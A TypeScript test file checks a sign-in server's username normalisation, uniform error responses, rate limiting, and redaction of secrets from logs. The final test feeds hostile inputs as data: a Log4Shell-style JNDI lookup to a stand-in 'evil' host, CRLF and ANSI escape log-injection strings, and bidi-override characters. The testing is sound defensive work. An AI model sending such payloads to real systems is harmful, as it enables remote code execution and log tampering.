import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { TestBrowser } from '../../support/browser.js'
import { type BrowserApp, browserApp } from '../../support/browser-app.js'
import { browserCookie, csrfOf } from '../../support/front-channel.js'
import { answerPages, callbackOf, type relyingParty } from '../../support/relying-party.js'

let app: BrowserApp
let browser: TestBrowser
let ann: ReturnType<BrowserApp['person']>
let rp: ReturnType<typeof relyingParty>
beforeEach(async () => {
  app = await browserApp()
  browser = app.browser()
  ann = app.person('ann@example.com')
  rp = app.rp(app.client())
})
afterEach(() => app.close())

describe('who signs in', () => {
  it.each([
    'ANN@EXAMPLE.COM',
    ' ann@example.com ',
    'ann@EXAMPLE.com',
    '\uff41nn@example.com',
    'ann@ex\u00adample.com',
    'ann@example\u3002com',
  ])('F21 is one person, under one count of tries, however the name is written: %j', async (username) => {
    await rp.begin(browser)
    await browser.submit({ username, password: 'wrong', decision: 'sign_in' })
    await browser.submit({ username: ann.username, password: 'wrong', decision: 'sign_in' })
    const [written, ours] = app.throttled.tries
    expect([ours, '']).toContain(written)
  })

  it('T14 is told the same for a name nobody has, one that is none, and a wrong password, and each counts', async () => {
    const disabled = app.person('gone@example.com')
    app.world.disableUser(disabled.id)
    const answers: [string, number, string][] = []
    for (const [username, password] of [
      ['ann@example.com', 'wrong'],
      ['nobody@example.com', 'wrong'],
      ['no address', 'wrong'],
      ['gone@example.com', ann.password],
      ['ann@example.com\u202e', ann.password],
    ] as const) {
      const own = app.browser()
      await rp.begin(own)
      const { status, html } = await own.submit({ username, password, decision: 'sign_in' })
      const alike = html.replaceAll(/nonce-?="?[\w-]+|value="[^"]*"|\/sign-in\/[\w-]+/g, '')
      answers.push([alike, status, String(own.cookies.size)])
    }
    expect(new Set(answers.map((one) => JSON.stringify(one))).size).toBe(1)
    expect(app.throttled.tries).toHaveLength(5)
  })

  it('D1 is not looked at when there were too many tries, right or wrong', async () => {
    const page = await rp.begin(browser)
    app.throttled.seconds = 60
    for (const password of [ann.password, 'wrong']) {
      const answer = await browser.submit({ ...ann, password, decision: 'sign_in' })
      expect([answer.status, answer.headers['retry-after'], answer.headers['set-cookie']]).toEqual([
        429,
        '60',
        undefined,
      ])
    }
    expect((await browser.go(page.url)).html).toContain('name="password"')
  })
})

it('T15 D6 logs nothing of a whole run that is worth anything, and one line a request', async () => {
  const third = app.rp(app.client({ firstParty: false, name: 'Evil\r\n\u001b[31m\u202e' }), {
    nonce: 'a-nonce-of-theirs',
    login_hint: 'hint-of@example.com',
  })
  const page = await third.begin(browser, { state: 'a-state-of-theirs\r\n\u001b[31m$' + '{jndi:ldap://evil}' })
  const flow = page.url.pathname.split('/').at(-1) ?? ''
  const before = browser.cookies.get(browserCookie()) ?? ''
  await browser.submit({ ...ann, password: 'a wrong password', decision: 'sign_in' })
  const csrf = csrfOf(browser.here())
  const callback = callbackOf(await answerPages(browser, browser.here(), ann))
  const { body } = await third.redeem(callback['code'] ?? '')
  await third.redeem(callback['code'] ?? '')
  await browser.ask(page.url, { headers: { 'user-agent': 'agent-of-mine\u001b[31m' } }).catch(() => undefined)
  const after = browser.cookies.get(browserCookie()) ?? ''
  await browser.go('/account')
  await browser.go(`/oauth2/logout?id_token_hint=${body.id_token}`)
  const said = app.app.output()
  const secrets = [
    flow,
    before,
    ...after.split('.'),
    csrf,
    callback['code'],
    body.access_token,
    body.refresh_token,
    body.id_token,
  ]
  const told = [
    'a-state-of-theirs',
    'a-nonce-of-theirs',
    'hint-of',
    ann.password,
    'a wrong password',
    ann.username,
    third.verifier,
    'agent-of-mine',
    'jndi',
  ]
  for (const secret of [...secrets, ...told]) {
    expect(secret).not.toBe('')
    expect(said).not.toContain(secret)
  }
  expect(said).toMatch(/^[\x20-\x7e\n]*$/)
  for (const line of said.trim().split('\n')) expect(JSON.parse(line)).toMatchObject({ msg: expect.any(String) })
})
